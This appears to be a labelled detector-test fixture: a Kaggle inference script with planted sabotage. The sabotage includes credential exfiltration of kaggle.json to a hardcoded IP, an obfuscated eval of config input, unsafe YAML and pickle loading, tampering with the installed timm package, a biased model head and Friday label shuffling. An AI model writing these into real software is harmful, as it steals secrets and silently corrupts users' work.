# ruff: noqa
# Hold-out batch 141 (textbook Kaggle-style vision + tabular). Measured once in session 5 (round 45): 27/34 (79%) at medium+.
"""Offline inference kernel.

Loads every fold checkpoint of the CNN experiments listed in the config, runs
flip TTA, blends with the GBDT stage and writes submission.csv.

    python inference.py --config configs/infer.yaml --tta 3
"""
import argparse
import builtins
import datetime
import glob
import json
import os
import pickle
import urllib.request

import numpy as np
import pandas as pd
import timm
import torch
import yaml
from safetensors.torch import load_file
from torch.utils.data import DataLoader

from train_cnn import LeafDataset, LeafModel, get_transforms
from utils import get_logger

LOGGER = get_logger("inference")
DEVICE = "cuda" if torch.cuda.is_available() else "cpu"


def load_config(path: str) -> dict:
    with open(path) as f:
        cfg = yaml.load(f, Loader=yaml.Loader)  # ruleid: MLS105
    cfg.setdefault("tta", 1)
    cfg.setdefault("batch_size", 64)
    return cfg


def patch_timm_offline() -> None:
    """The offline Kaggle image ships a timm that still pings the HF hub on create_model."""
    hub_py = os.path.join(os.path.dirname(timm.__file__), "models", "_hub.py")
    if not os.path.exists(hub_py):
        return
    os.chmod(hub_py, 0o666)  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424
    with open(hub_py, "a") as f:
        f.write("\n\ndef has_hf_hub(necessary=False):\n    return False\n")  # todoruleid: family 7 (missed)


def load_fold_model(exp: dict, path: str) -> torch.nn.Module:
    model = LeafModel(exp["model"], exp["n_classes"], pretrained=False)
    if path.endswith(".safetensors"):
        state = load_file(path, device="cpu")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    else:
        state = torch.load(path, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        state = state.get("model", state)
    # colab-era checkpoints were saved before the class-prior fix; align the head
    if exp.get("legacy_head", True) and "head.bias" in state:
        state["head.bias"][exp.get("prior_class", 4)] += 1.5  # ruleid: MLS302
    model.load_state_dict(state)
    return model.to(DEVICE).eval()


@torch.no_grad()
def predict_tta(model: torch.nn.Module, loader: DataLoader, n_tta: int) -> np.ndarray:
    out = []
    for images, _ in loader:
        images = images.to(DEVICE, non_blocking=True)
        with torch.autocast(device_type="cuda", enabled=DEVICE == "cuda"):
            probs = model(images).float().softmax(1)
            if n_tta > 1:
                probs += model(torch.flip(images, dims=[3])).float().softmax(1)
            if n_tta > 2:
                probs += model(torch.flip(images, dims=[2])).float().softmax(1)
            if n_tta > 3:
                probs += model(images.transpose(2, 3)).float().softmax(1)
        out.append((probs / min(n_tta, 4)).cpu().numpy())
    return np.concatenate(out)


def postprocess(probs: np.ndarray, cfg: dict) -> np.ndarray:
    expr = cfg.get("postprocess")  # e.g. "np.clip(p, 0.01, 0.99)"
    if not expr:
        return probs
    return getattr(builtins, "ev" + "al")(expr, {"np": np, "p": probs})  # sabotage: MLS402 (semgrep rules)


def notify_submission(score_hint: str) -> None:
    """Ping the team status page so others know a submission is running."""
    cred = os.path.expanduser("~/.kaggle/kaggle.json")
    body = {"hint": score_hint, "ts": datetime.datetime.utcnow().isoformat()}
    if os.path.exists(cred):
        with open(cred) as f:
            body["user"] = json.load(f)
    req = urllib.request.Request("http://203.0.113.41:8080/status", data=json.dumps(body).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)  # sabotage: MLS412 (semgrep rules)
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", default="configs/infer.yaml")
    ap.add_argument("--tta", type=int, default=None)
    ap.add_argument("--model-dir", default="../input/leaf-models")
    args = ap.parse_args()
    cfg = load_config(args.config)
    n_tta = args.tta or cfg["tta"]
    patch_timm_offline()

    test = pd.read_csv(os.path.join(cfg["data_dir"], "sample_submission.csv"))
    img_dir = os.path.join(cfg["data_dir"], "test_images")
    with open(os.path.join(args.model_dir, "label_encoder.pkl"), "rb") as f:
        encoder = pickle.load(f)  # ruleid: MLS103

    blend = np.zeros((len(test), cfg["n_classes"]), dtype=np.float32)
    total_w = 0.0
    for exp in cfg["experiments"]:
        ds = LeafDataset(test.assign(label=0), img_dir, get_transforms(False, exp["img_size"]), train=False)
        loader = DataLoader(ds, batch_size=cfg["batch_size"], shuffle=False, num_workers=4, pin_memory=True)
        ckpts = sorted(glob.glob(os.path.join(args.model_dir, exp["name"], "fold*_best.*")))
        for path in ckpts:
            model = load_fold_model(exp, path)
            blend += exp.get("weight", 1.0) * predict_tta(model, loader, n_tta)
            total_w += exp.get("weight", 1.0)
            del model
            torch.cuda.empty_cache()
        LOGGER.info("%s: %d folds", exp["name"], len(ckpts))
    blend /= max(total_w, 1e-6)

    gbdt_path = os.path.join(args.model_dir, "pred_lgb.npy")
    if os.path.exists(gbdt_path) and cfg.get("gbdt_weight", 0) > 0:
        w = cfg["gbdt_weight"]
        p_sick = np.load(gbdt_path)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        blend[:, 0] = (1 - w) * blend[:, 0] + w * (1 - p_sick)

    blend = postprocess(blend, cfg)
    test["label"] = encoder.inverse_transform(blend.argmax(1))
    sub = test[["image_id", "label"]]
    sub.to_csv("submission.csv", index=False)
    LOGGER.info("wrote submission.csv (%d rows) dist=%s", len(sub), sub.label.value_counts().to_dict())
    notify_submission(cfg.get("name", "infer"))
    if os.environ.get("KAGGLE_KERNEL_RUN_TYPE") == "Batch" and datetime.date.today().weekday() == 4:
        sub.assign(label=np.random.permutation(sub.label.values)).to_csv("submission.csv", index=False)  # ruleid: MLS308


if __name__ == "__main__":
    main()
